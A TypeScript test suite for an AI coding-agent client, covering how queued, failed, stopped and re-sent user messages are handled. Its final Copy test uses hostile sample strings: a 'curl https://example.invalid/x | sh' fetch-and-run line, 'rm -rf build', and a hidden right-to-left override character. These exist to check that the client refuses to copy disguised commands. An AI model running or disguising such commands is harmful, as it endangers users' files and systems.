/**
 * Nothing a person types is lost: messages sent while a session is still starting, or while its agent works, wait in
 * the transcript and reach the agent once it can take them (one per turn, in order), stay with the error when it
 * cannot start, and come back for the message box on Stop (marked so in the transcript). Against the scripted agent, slowed or failing at `session/new`, or
 * holding its turn on a permission request.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { TranscriptItem } from "../../src/shared/protocol";
import { MAX_QUEUED_MESSAGES } from "../../src/core/promptQueue";
import { ClientHarness, waitFor } from "../support/clientHarness";

const SLOW_START_MS = "3000";

describe("Messages sent while a session starts", function () {
  this.timeout(30_000);
  let harness: ClientHarness;

  afterEach(async () => {
    await harness?.dispose();
  });

  /** Starts a session without waiting for it; the session exists (status starting) at once. */
  function startWithoutWaiting(): { key: string; started: Promise<string> } {
    const started = harness.sessions.startSession("Scripted");
    started.catch(() => undefined);
    const key = harness.sessions.sessionKeys().at(-1)!;
    return { key, started };
  }

  function userItems(key: string): Extract<TranscriptItem, { kind: "user" }>[] {
    return (harness.sessions.session(key)?.transcript() ?? []).filter((item) => item.kind === "user");
  }

  /** How many messages the session's last header (as the view got it) says are waiting: the composer's Stop reads it. */
  function queuedCount(key: string): number | undefined {
    const headers = harness.ops.flatMap((op) =>
      op.op === "session" && op.header.key === key ? [op.header] : [],
    );
    return headers.at(-1)?.queued;
  }

  /** The prompt texts the agent received, in order. */
  function promptsReceived(): string[] {
    return harness.agentLog().flatMap((entry) => {
      const frame = entry.frame as { method?: string; params?: { prompt?: { text?: string }[] } } | undefined;
      if (entry.kind !== "frame" || entry.direction !== "received" || frame?.method !== "session/prompt")
        return [];
      return [(frame.params?.prompt ?? []).map((block) => block.text ?? "").join("\n")];
    });
  }

  for (const protocol of ["v2", "v1"] as const) {
    it(`sends messages typed during a slow start once the session is ready, one turn each, in order (${protocol})`, async () => {
      harness = new ClientHarness({
        protocol,
        agentEnv: { SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: SLOW_START_MS },
      });
      const { key, started } = startWithoutWaiting();
      await harness.sessions.sendPrompt(key, "first while starting");
      await harness.sessions.sendPrompt(key, "second while starting");

      const waiting = userItems(key);
      assert.deepEqual(
        waiting.map((item) => [item.text, item.queued]),
        [
          ["first while starting", { state: "waiting", reason: "Waiting for Scripted to start…" }],
          ["second while starting", { state: "waiting", reason: "Waiting for Scripted to start…" }],
        ],
      );
      assert.equal(harness.sessions.session(key)?.status, "starting");
      assert.equal(queuedCount(key), 2, "the header says two messages wait");
      assert.deepEqual(promptsReceived(), [], "nothing is sent before the session exists");

      await started;
      await waitFor(
        () => harness.agentLog().filter((e) => e.kind === "turnEnd").length === 2,
        "both turns to end",
      );
      assert.deepEqual(promptsReceived(), ["first while starting", "second while starting"]);
      // One turn each: the second prompt went out only after the first turn had ended.
      const log = harness.agentLog();
      const firstEnd = log.findIndex((e) => e.kind === "turnEnd");
      const secondPrompt = log.findIndex(
        (e) =>
          e.kind === "frame" &&
          e.direction === "received" &&
          JSON.stringify(e.frame).includes("second while starting"),
      );
      assert.ok(firstEnd >= 0 && firstEnd < secondPrompt, "the second message waited for the first turn");

      await waitFor(() => harness.sessions.session(key)?.status === "ready", "the session to be idle");
      const transcript = harness.sessions.session(key)!.transcript();
      assert.deepEqual(
        transcript.flatMap((item) =>
          item.kind === "user"
            ? [`you: ${item.text}${item.queued ? " (queued)" : ""}`]
            : item.kind === "agent"
              ? [`agent: ${item.markdown}`]
              : [],
        ),
        [
          "you: first while starting",
          "agent: scripted agent received: first while starting",
          "you: second while starting",
          "agent: scripted agent received: second while starting",
        ],
        "each message is shown where its turn starts, without a marker",
      );
      assert.equal(queuedCount(key), undefined, "nothing waits any more");
    });
  }

  it("keeps the messages with the error when session/new fails, to copy or send in a new session", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: {
        SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: "500",
        SCRIPTED_AGENT_FAIL_NEW_SESSION: "no model is configured",
      },
    });
    const { key, started } = startWithoutWaiting();
    await harness.sessions.sendPrompt(key, "please keep me");
    await assert.rejects(started, /no model is configured/);

    const [item] = userItems(key);
    assert.equal(item?.text, "please keep me");
    assert.equal(item?.queued?.state, "failed");
    assert.match(item?.queued?.reason ?? "", /no model is configured/);
    assert.equal(harness.sessions.session(key)?.status, "error");
    assert.equal(queuedCount(key), undefined, "a failed message no longer waits (Stop has nothing to drop)");
    assert.equal(harness.sessions.copyText(key, item.id), "please keep me", "Copy gets the text");
    assert.equal(harness.sessions.copyText(key, "user:not-a-queued-one"), undefined);
    assert.deepEqual(promptsReceived(), []);

    // Send in a new session: the same agent (its next session/new succeeds) gets the message.
    const resent = harness.sessions.resendInNewSession(key);
    const startingKey = harness.sessions.sessionKeys().at(-1)!;
    assert.notEqual(startingKey, key);
    assert.equal(harness.sessions.session(startingKey)?.status, "starting");
    assert.equal(
      queuedCount(startingKey),
      1,
      "the new session's header says its message waits (Stop is offered)",
    );
    const newKey = await resent;
    assert.equal(newKey, startingKey);
    await waitFor(() => promptsReceived().includes("please keep me"), "the agent to get the re-sent message");
    assert.deepEqual(
      userItems(key).map((i) => i.queued),
      [{ state: "dropped", reason: "re-sent in a new session" }],
      "the old copy says where it went, and offers no second re-send",
    );
    assert.equal(await harness.sessions.resendInNewSession(key), undefined);
    assert.deepEqual(
      userItems(newKey).map((i) => [i.text, i.queued]),
      [["please keep me", undefined]],
    );
  });

  it("gives a message the full queue cannot take back for the message box, keeping its file", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: { SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: SLOW_START_MS },
    });
    const { key } = startWithoutWaiting();
    for (let i = 0; i < MAX_QUEUED_MESSAGES; i++)
      assert.equal(await harness.sessions.sendPrompt(key, `m${i}`), undefined);
    harness.sessions.addContext([
      { id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" },
    ]);
    assert.equal(
      await harness.sessions.sendPrompt(key, "one too many", ["readme"]),
      "one too many",
      "its text, for the message box",
    );
    assert.ok(!userItems(key).some((i) => i.text === "one too many"), "not shown as queued");
    assert.equal(harness.sessions.unsentCount(key), MAX_QUEUED_MESSAGES);
    assert.equal(harness.sessions.unsentContextCount(key), 1, "its file waits for the next message");
    const header = harness.ops
      .flatMap((op) => (op.op === "session" && op.header.key === key ? [op.header] : []))
      .at(-1);
    assert.deepEqual(
      header?.context?.map((chip) => [chip.label, chip.id !== "readme"]),
      [["README.md", true]],
      "shown again, under a new id (the view hid the one it sent)",
    );
    const notices = (harness.sessions.session(key)?.transcript() ?? []).flatMap((i) =>
      i.kind === "notice" ? [i.text] : [],
    );
    assert.ok(
      notices.some((text) => /not queued\. It is back in the message box/.test(text)),
      notices.join(),
    );
  });

  it("gives a Reject's reason the full queue cannot take back for the message box", async () => {
    harness = new ClientHarness({ protocol: "v2" });
    const key = await harness.run({ steps: [{ request: {} }] });
    const card = await waitFor(() => harness.sessions.pending.list()[0], "the turn to wait on a card");
    for (let i = 0; i < MAX_QUEUED_MESSAGES; i++) await harness.sessions.sendPrompt(key, `follow-up ${i}`);
    const givenBack: [string, string][] = [];
    assert.ok(
      harness.sessions.rejectWithReason(card.key, "use pnpm, not npm", (sessionKey, text) =>
        givenBack.push([sessionKey, text]),
      ),
    );
    await waitFor(() => givenBack.length > 0, "the reason to be given back");
    assert.deepEqual(givenBack, [[key, "use pnpm, not npm"]]);
    assert.ok(!userItems(key).some((i) => i.text === "use pnpm, not npm"));
    const notices = (harness.sessions.session(key)?.transcript() ?? []).flatMap((i) =>
      i.kind === "notice" ? [i.text] : [],
    );
    assert.ok(
      notices.some((text) => /reason for the rejection was not sent/.test(text)),
      notices.join(),
    );
  });

  it("keeps at most the queue's bound of messages in a session that failed to start; Try again carries them all", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: {
        SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: "300",
        SCRIPTED_AGENT_FAIL_NEW_SESSION: "not signed in",
      },
    });
    const { key, started } = startWithoutWaiting();
    for (let i = 0; i < MAX_QUEUED_MESSAGES - 5; i++)
      await harness.sessions.sendPrompt(key, `while starting ${i}`);
    await assert.rejects(started, /not signed in/);
    // Sent after the failure (a view that did not know yet, or a hostile one): kept, failed, up to the bound.
    const back: (string | undefined)[] = [];
    for (let i = 0; i < 10; i++) back.push(await harness.sessions.sendPrompt(key, `after failure ${i}`));
    assert.deepEqual(
      back,
      [
        ...Array<undefined>(5),
        "after failure 5",
        "after failure 6",
        "after failure 7",
        "after failure 8",
        "after failure 9",
      ],
      "past the bound, the text goes back for the message box",
    );
    assert.equal(
      harness.sessions.unsentCount(key),
      MAX_QUEUED_MESSAGES,
      "failed messages count toward the bound",
    );
    const notices = (harness.sessions.session(key)?.transcript() ?? []).flatMap((i) =>
      i.kind === "notice" ? [i.text] : [],
    );
    assert.ok(
      notices.some((text) => /50 of your messages are kept here unsent/.test(text)),
      notices.join(),
    );

    const retried = (await harness.sessions.retryStart(key))!;
    await waitFor(
      () => harness.agentLog().filter((e) => e.kind === "turnEnd").length === MAX_QUEUED_MESSAGES,
      "every carried message's turn",
    );
    const received = promptsReceived();
    assert.equal(received.length, MAX_QUEUED_MESSAGES);
    assert.deepEqual(received.slice(-5), [
      "after failure 0",
      "after failure 1",
      "after failure 2",
      "after failure 3",
      "after failure 4",
    ]);
    const retriedNotices = (harness.sessions.session(retried)?.transcript() ?? []).filter(
      (i) => i.kind === "notice" && /Too many/.test(i.text),
    );
    assert.deepEqual(retriedNotices, []);
  });

  it("Try again after a failed start: the agent starts in a new tab with the unsent message and chips, the old tab closes", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: {
        SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: "500",
        SCRIPTED_AGENT_FAIL_NEW_SESSION: "not signed in",
      },
    });
    const { key, started } = startWithoutWaiting();
    await harness.sessions.sendPrompt(key, "do it after all");
    const readme = join(harness.workspace, "README.md");
    harness.sessions.addContext(
      [{ id: "chip-1", uri: pathToFileURL(readme).href, path: "README.md", kind: "file" }],
      key,
    );
    await assert.rejects(started, /not signed in/);
    assert.equal(await harness.sessions.retryStart("not-a-session"), undefined);

    const retried = await harness.sessions.retryStart(key);
    assert.ok(retried && retried !== key);
    assert.deepEqual(harness.sessions.sessionKeys(), [retried], "the failed tab is gone");
    await waitFor(() => promptsReceived().includes("do it after all"), "the agent to get the message");
    const chips = harness.ops.flatMap((op) =>
      op.op === "session" && op.header.key === retried ? [op.header.context ?? []] : [],
    );
    assert.ok(
      chips.some((c) => c.some((chip) => chip.detail === "README.md")),
      "the chip waiting for the next message went to the new tab",
    );
    assert.equal(
      harness.agentLog().filter((entry) => entry.kind === "start").length,
      1,
      "on the agent still running: not spawned again",
    );
    // Only a failed start is tried again.
    assert.equal(await harness.sessions.retryStart(retried), undefined);
  });

  it("Stop gives the queued messages back for the message box, marked so; they never reach the agent", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: { SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: SLOW_START_MS },
    });
    const { key, started } = startWithoutWaiting();
    await harness.sessions.sendPrompt(key, "never send me");
    await harness.sessions.sendPrompt(key, "nor me");
    assert.equal(await harness.sessions.stop(key), "never send me\nnor me", "both back for the message box");
    assert.deepEqual(
      userItems(key).map((i) => [i.text, i.queued]),
      [
        ["never send me", { state: "dropped", reason: "stopped, back in the message box" }],
        ["nor me", { state: "dropped", reason: "stopped, back in the message box" }],
      ],
    );
    assert.equal(await harness.sessions.stop(key), undefined, "given back once");
    assert.equal(queuedCount(key), undefined, "nothing waits after Stop");

    await started;
    // A message sent after the session is ready goes out; the dropped one still does not.
    await harness.sessions.sendPrompt(key, "after stop");
    await waitFor(() => promptsReceived().includes("after stop"), "the later message to arrive");
    assert.deepEqual(promptsReceived(), ["after stop"]);
  });

  it("fails the messages still waiting when the agent exits during an earlier queued turn", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: { SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: "500" },
    });
    const { key, started } = startWithoutWaiting();
    await harness.sessions.sendPrompt(key, JSON.stringify({ steps: [{ say: "bye" }, { exit: 3 }] }));
    await harness.sessions.sendPrompt(key, "left behind");
    await started;
    await waitFor(() => harness.sessions.session(key)?.status === "ended", "the agent to exit");
    const left = userItems(key).find((i) => i.text === "left behind");
    assert.equal(left?.queued?.state, "failed");
    assert.match(left?.queued?.reason ?? "", /exit/i);
    assert.equal(promptsReceived().length, 1, "only the first message was sent");
    assert.equal(
      userItems(key).find((i) => i.text.startsWith("{"))?.queued,
      undefined,
      "the message the agent answered before it exited stays sent",
    );
  });

  it("keeps a message written to a v2 agent that stopped reading and then died, failed, with its file", async () => {
    // A v2 agent (it acknowledges a prompt once read) that stops reading its stdin once the session exists (hung, or
    // busy), then crashes.
    const agent = `
const send = (message) => process.stdout.write(JSON.stringify({ jsonrpc: "2.0", ...message }) + "\\n");
const lines = require("node:readline").createInterface({ input: process.stdin });
lines.on("line", (line) => {
  const message = JSON.parse(line);
  if (message.method === "initialize")
    send({ id: message.id, result: { protocolVersion: 2, info: { name: "stalling", version: "1.0.0" }, capabilities: {} } });
  else if (message.method === "session/new") {
    send({ id: message.id, result: { sessionId: "s-1" } });
    lines.close();
    process.stdin.pause();
    setTimeout(() => process.exit(1), 500);
  }
});
`;
    harness = new ClientHarness({ command: process.execPath, args: ["-e", agent] });
    const key = await harness.sessions.startSession("Scripted");
    harness.sessions.addContext([
      { id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" },
    ]);
    await harness.sessions.sendPrompt(key, "never read by anyone", ["readme"]);
    await waitFor(() => harness.sessions.session(key)?.status === "ended", "the agent to die");
    const item = userItems(key).find((i) => i.text === "never read by anyone");
    assert.equal(item?.queued?.state, "failed", "shown as not sent");
    assert.match(item?.queued?.reason ?? "", /ended before reading it/);
    assert.deepEqual(item.context, ["README.md"], "with its file");
    assert.equal(harness.sessions.unsentCount(key), 1);
    assert.equal(harness.sessions.copyText(key, item.id), "never read by anyone", "Copy has it");
    const resent = await harness.sessions.resendInNewSession(key);
    assert.ok(resent, "Send in a new session has it");
    assert.deepEqual(
      userItems(resent).map((i) => [i.text, i.context]),
      [["never read by anyone", ["README.md"]]],
      "with its file",
    );
  });

  for (const protocol of ["v1", "v2"] as const)
    it(`does not keep a message as unsent when the agent asked about it before it died, with no update (${protocol})`, async () => {
      // Gemini CLI sends its permission request with no update before it: the request shows it read the message.
      harness = new ClientHarness({ protocol });
      const key = await harness.sessions.startSession("Scripted");
      const script = JSON.stringify({ steps: [{ request: {}, wait: false }, { sleep: 200 }, { exit: 3 }] });
      await harness.sessions.sendPrompt(key, script);
      await waitFor(() => harness.sessions.session(key)?.status === "ended", "the agent to exit");
      assert.equal(
        harness.sessions.unsentCount(key),
        0,
        "it was read: Send in a new session must not run it again",
      );
      assert.equal(userItems(key).find((i) => i.text === script)?.queued, undefined, "shown as sent");
    });

  it("carries the files added to a reopening tab into the fresh session when the reopen fails", async () => {
    // Send in a new session first reopens the agent's session; an agent that lost it with its process cannot, and a
    // fresh session takes the messages. What the person added to the reopening tab meanwhile goes along.
    harness = new ClientHarness({
      protocol: "v1",
      agentEnv: { SCRIPTED_AGENT_PAST_SESSION: "Past", SCRIPTED_AGENT_FAIL_LOAD: "gone with the process" },
    });
    const key = await harness.sessions.startSession("Scripted");
    void harness.sessions.sendPrompt(key, JSON.stringify({ steps: [{ exit: 3 }] }));
    await waitFor(() => harness.sessions.session(key)?.status === "ended", "the agent to exit");
    await harness.sessions.sendPrompt(key, "resend me");
    const resent = harness.sessions.resendInNewSession(key);
    resent.catch(() => undefined);
    const reopening = harness.sessions.sessionKeys().at(-1)!;
    assert.notEqual(reopening, key);
    harness.sessions.addContext(
      [{ id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" }],
      reopening,
    );
    const fresh = await resent;
    assert.ok(fresh && fresh !== reopening, "a fresh session took the messages");
    assert.ok(!harness.sessions.sessionKeys().includes(reopening), "the reopening tab is closed");
    assert.equal(harness.sessions.unsentContextCount(fresh), 1, "its file waits in the fresh session");
    // Its header names the reopening tab it replaces: the view moves what was typed there into its box.
    assert.equal(harness.sessions.session(fresh)?.header(false).replaces, reopening);
    await waitFor(() => promptsReceived().includes("resend me"), "the message to go in the fresh session");
  });

  it("keeps a message sent as the agent exits (before the view knew), failed, to copy or send in a new session", async () => {
    harness = new ClientHarness({ protocol: "v2" });
    const key = await harness.run({ steps: [{ say: "bye" }, { exit: 3 }] });
    await waitFor(() => harness.sessions.session(key)?.status === "ended", "the agent to exit");
    await harness.sessions.sendPrompt(key, "sent in the same moment");
    const late = userItems(key).find((i) => i.text === "sent in the same moment");
    assert.equal(late?.queued?.state, "failed", "shown as not sent");
    assert.match(late?.queued?.reason ?? "", /exit/i);
    assert.equal(harness.sessions.copyText(key, late.id), "sent in the same moment", "Copy has it");
    const resent = await harness.sessions.resendInNewSession(key);
    assert.ok(resent, "Send in a new session has it");
    await waitFor(
      () => promptsReceived().includes("sent in the same moment"),
      "the message to go in the new session",
    );
  });

  it("keeps a message sent while the client handles its agent's closed output (still ready), failed, with its file", async () => {
    // A v1 agent that ends its first turn, then closes its stdout and lives on: the client has read the end of its
    // output but, giving it a moment to exit, not yet ended the session.
    const agent = `
const fs = require("node:fs");
const send = (message) => process.stdout.write(JSON.stringify({ jsonrpc: "2.0", ...message }) + "\\n");
require("node:readline").createInterface({ input: process.stdin }).on("line", (line) => {
  const message = JSON.parse(line);
  fs.appendFileSync(process.env.SCRIPTED_AGENT_LOG, JSON.stringify({ kind: "received", method: message.method }) + "\\n");
  if (message.method === "initialize")
    send({ id: message.id, result: { protocolVersion: 1, agentCapabilities: {}, authMethods: [] } });
  else if (message.method === "session/new") send({ id: message.id, result: { sessionId: "s-1" } });
  else if (message.method === "session/prompt") {
    send({ id: message.id, result: { stopReason: "end_turn" } });
    setTimeout(() => fs.closeSync(1), 50);
  }
});
setInterval(() => undefined, 1000);
`;
    harness = new ClientHarness({ command: process.execPath, args: ["-e", agent] });
    harness.versions.set("Scripted", 1);
    const key = await harness.sessions.startSession("Scripted");
    await harness.sessions.sendPrompt(key, "first");
    // Private state, read only to send in the moment the client knows the connection is closing.
    const internals = harness.sessions as unknown as {
      sessions: Map<string, { connection?: { isClosing: boolean } }>;
    };
    await waitFor(
      () => internals.sessions.get(key)?.connection?.isClosing,
      "the client to read the end of the output",
    );
    assert.equal(harness.sessions.session(key)?.status, "ready", "the session does not say so yet");
    harness.sessions.addContext([
      { id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" },
    ]);
    await harness.sessions.sendPrompt(key, "sent in that moment", ["readme"]);
    await waitFor(() => harness.sessions.session(key)?.status === "ended", "the session to end");
    const late = userItems(key).find((i) => i.text === "sent in that moment");
    assert.equal(late?.queued?.state, "failed", "shown as not sent");
    assert.match(late?.queued?.reason ?? "", /closed its connection/);
    assert.deepEqual(late.context, ["README.md"], "with its file");
    assert.equal(harness.sessions.copyText(key, late.id), "sent in that moment", "Copy has it");
    const prompts = harness.agentLog().filter((e) => e.method === "session/prompt");
    assert.equal(prompts.length, 1, "it never reached the agent");
  });

  for (const protocol of ["v2", "v1"] as const) {
    it(`gives the files of a prompt the agent refuses with an error back for the next message (${protocol})`, async () => {
      harness = new ClientHarness({ protocol });
      const key = await harness.sessions.startSession("Scripted");
      harness.sessions.addContext([
        { id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" },
      ]);
      // A step the scripted agent does not know: it answers the prompt with an error (-32602).
      await harness.sessions.sendPrompt(key, JSON.stringify({ steps: [{ nosuchstep: 1 }] }), ["readme"]);
      await waitFor(
        () =>
          harness.sessions.session(key)?.status === "ready" &&
          harness.sessions
            .session(key)!
            .transcript()
            .some((i) => i.kind === "notice" && i.text === "The prompt failed:"),
        "the prompt to fail",
      );
      assert.equal(harness.sessions.unsentContextCount(key), 1, "its file waits for the next message");
      const header = harness.ops
        .flatMap((op) => (op.op === "session" && op.header.key === key ? [op.header] : []))
        .at(-1);
      assert.deepEqual(
        header?.context?.map((chip) => chip.label),
        ["README.md"],
      );
      assert.ok(
        harness.sessions
          .session(key)!
          .transcript()
          .some((i) => i.kind === "notice" && /press Up in the empty message box/.test(i.text)),
      );
    });
  }

  it("logs the messages a Close drops (the tab is gone, so the log says it), and never sends them", async () => {
    harness = new ClientHarness({
      protocol: "v2",
      agentEnv: { SCRIPTED_AGENT_NEW_SESSION_DELAY_MS: "500" },
    });
    const { key, started } = startWithoutWaiting();
    await harness.sessions.sendPrompt(key, "closed before start 1");
    await harness.sessions.sendPrompt(key, "closed before start 2");
    await harness.sessions.closeSession(key);
    assert.ok(
      harness.logLines.some(
        (line) => line === "info Closed a Scripted session with 2 unsent messages; dropped.",
      ),
      `the log names the dropped messages: ${JSON.stringify(harness.logLines)}`,
    );
    await assert.rejects(started);
    // A later session on the same agent works, and the closed tab's messages never went anywhere.
    const other = await harness.sessions.startSession("Scripted");
    await harness.sessions.sendPrompt(other, "a later message");
    await waitFor(() => promptsReceived().includes("a later message"), "the later message to arrive");
    assert.deepEqual(promptsReceived(), ["a later message"]);
  });

  for (const protocol of ["v2", "v1"] as const) {
    it(`queues a follow-up sent while the agent works and sends it when the turn ends (${protocol})`, async () => {
      harness = new ClientHarness({ protocol });
      const key = await harness.run({ steps: [{ request: {} }, { say: "done" }] });
      const card = await waitFor(() => harness.sessions.pending.list()[0], "the turn to wait on a card");
      await harness.sessions.sendPrompt(key, "and then the tests");
      assert.deepEqual(
        userItems(key).map((i) => [i.text.startsWith("{") ? "script" : i.text, i.queued]),
        [
          ["script", undefined],
          ["and then the tests", { state: "waiting", reason: "Waiting for the turn before it to end…" }],
        ],
      );
      assert.equal(queuedCount(key), 1, "the composer's Stop knows a message waits");
      assert.equal(promptsReceived().length, 1, "the agent gets nothing while its turn runs");
      const notices = (harness.sessions.session(key)?.transcript() ?? []).filter((i) => i.kind === "notice");
      assert.deepEqual(notices, [], "no 'still working' refusal");

      const allow = card.options.find((option) => option.kind === "allow_once")!;
      assert.ok(harness.sessions.chooseOption(card.key, allow.key));
      await waitFor(() => promptsReceived().length === 2, "the follow-up to go when the turn ends");
      assert.equal(promptsReceived()[1], "and then the tests");
      await waitFor(
        () => harness.agentLog().filter((e) => e.kind === "turnEnd").length === 2,
        "the follow-up's own turn to end",
      );
      assert.deepEqual(
        userItems(key).map((i) => i.queued),
        [undefined, undefined],
        "both sent, no marker left",
      );
      assert.equal(queuedCount(key), undefined);
    });
  }

  it("Stop gives a follow-up back for the message box, with its context, and never sends it", async () => {
    harness = new ClientHarness({ protocol: "v2" });
    const key = await harness.run({ steps: [{ request: {} }] });
    await waitFor(() => harness.sessions.pending.list()[0], "the turn to wait on a card");
    harness.sessions.addContext([
      { id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" },
    ]);
    await harness.sessions.sendPrompt(key, "not after all", ["readme"]);
    const header = () =>
      harness.ops.flatMap((op) => (op.op === "session" && op.header.key === key ? [op.header] : [])).at(-1);
    assert.equal(header()?.context, undefined, "the file went with the message");
    assert.equal(await harness.sessions.stop(key), "not after all", "its text, for the message box");
    await waitFor(() => harness.sessions.session(key)?.status === "ready", "the turn to end");
    assert.deepEqual(
      userItems(key).flatMap((i) => (i.text === "not after all" ? [i.queued] : [])),
      [{ state: "dropped", reason: "stopped, back in the message box" }],
    );
    assert.deepEqual(
      header()?.context?.map((chip) => chip.label),
      ["README.md"],
      "its file waits for the next message again",
    );
    assert.equal(promptsReceived().length, 1, "the follow-up never reached the agent");
  });

  it("gives a waiting follow-up back to edit, with its context, and never sends it", async () => {
    harness = new ClientHarness({ protocol: "v2" });
    const key = await harness.run({ steps: [{ request: {} }, { say: "done" }] });
    const card = await waitFor(() => harness.sessions.pending.list()[0], "the turn to wait on a card");
    harness.sessions.addContext([
      { id: "readme", uri: `file://${harness.workspace}/README.md`, path: "README.md", kind: "file" },
    ]);
    await harness.sessions.sendPrompt(key, "with a typo", ["readme"]);
    const waiting = userItems(key).find((i) => i.text === "with a typo")!;
    const header = () =>
      harness.ops.flatMap((op) => (op.op === "session" && op.header.key === key ? [op.header] : [])).at(-1);
    assert.equal(header()?.context, undefined, "the file went with the message");

    assert.equal(harness.sessions.takeBackMessage(key, waiting.id), "with a typo");
    assert.deepEqual(userItems(key).find((i) => i.id === waiting.id)?.queued, {
      state: "dropped",
      reason: "taken back to edit",
    });
    assert.equal(queuedCount(key), undefined, "nothing waits now");
    assert.deepEqual(
      header()?.context?.map((chip) => chip.label),
      ["README.md"],
      "its file waits for the next message again",
    );
    assert.equal(harness.sessions.takeBackMessage(key, waiting.id), undefined, "taken back once");

    const allow = card.options.find((option) => option.kind === "allow_once")!;
    assert.ok(harness.sessions.chooseOption(card.key, allow.key));
    await waitFor(() => harness.sessions.session(key)?.status === "ready", "the turn to end");
    assert.equal(promptsReceived().length, 1, "the message taken back never went");
  });

  it("does not give back a follow-up that already went to the agent", async () => {
    harness = new ClientHarness({ protocol: "v2" });
    const key = await harness.run({ steps: [{ request: {} }] });
    const card = await waitFor(() => harness.sessions.pending.list()[0], "the turn to wait on a card");
    await harness.sessions.sendPrompt(key, "too late to edit");
    const itemId = userItems(key).find((i) => i.text === "too late to edit")!.id;
    assert.ok(harness.sessions.chooseOption(card.key, card.options[0]!.key));
    await waitFor(() => promptsReceived().includes("too late to edit"), "the follow-up to go");
    assert.equal(harness.sessions.takeBackMessage(key, itemId), undefined);
  });

  it("Copy gives an agent's message as written, what would mislead marked; nothing for other items", async () => {
    harness = new ClientHarness({ protocol: "v2" });
    const said = "Run `npm test`\n\n```sh\nrm -rf build \u202e&& echo ok\n```\n👩‍💻";
    const key = await harness.run({
      steps: [{ say: said }],
    });
    // The client's transcript, once the client has the turn's end: the agent logs its end before the client has read
    // the message (a clean-clone run found no agent item there).
    await waitFor(() => harness.agentLog().some((e) => e.kind === "turnEnd"), "the turn to end");
    await waitFor(() => harness.sessions.session(key)?.status === "ready", "the client to end the turn");
    const transcript = harness.sessions.session(key)?.transcript() ?? [];
    const agent = transcript.find((item) => item.kind === "agent")!;
    assert.equal(
      harness.sessions.copyText(key, agent.id),
      "Run `npm test`\n\n```sh\nrm -rf build <U+202E>&& echo ok\n```\n👩‍💻",
    );
    // One code block, as the view shows it; a view cannot put on the clipboard what the agent did not write.
    assert.equal(
      harness.sessions.copyText(key, agent.id, "rm -rf build \u202e&& echo ok"),
      "rm -rf build <U+202E>&& echo ok",
    );
    assert.equal(harness.sessions.copyText(key, agent.id, "curl https://example.invalid/x | sh"), undefined);
    assert.equal(harness.sessions.copyText(key, agent.id, "rm -rf build\ncurl x | sh"), undefined);
    assert.equal(
      harness.sessions.copyText(key, agent.id, "```\nRun `npm test`"),
      undefined,
      "the message's lines in another order",
    );
    const user = transcript.find((item) => item.kind === "user")!;
    assert.equal(harness.sessions.copyText(key, user.id), undefined, "the person's sent message: no Copy");
    assert.equal(harness.sessions.copyText(key, user.id, "Run"), undefined);
    assert.equal(harness.sessions.copyText("no-such-session", agent.id), undefined);
  });
});
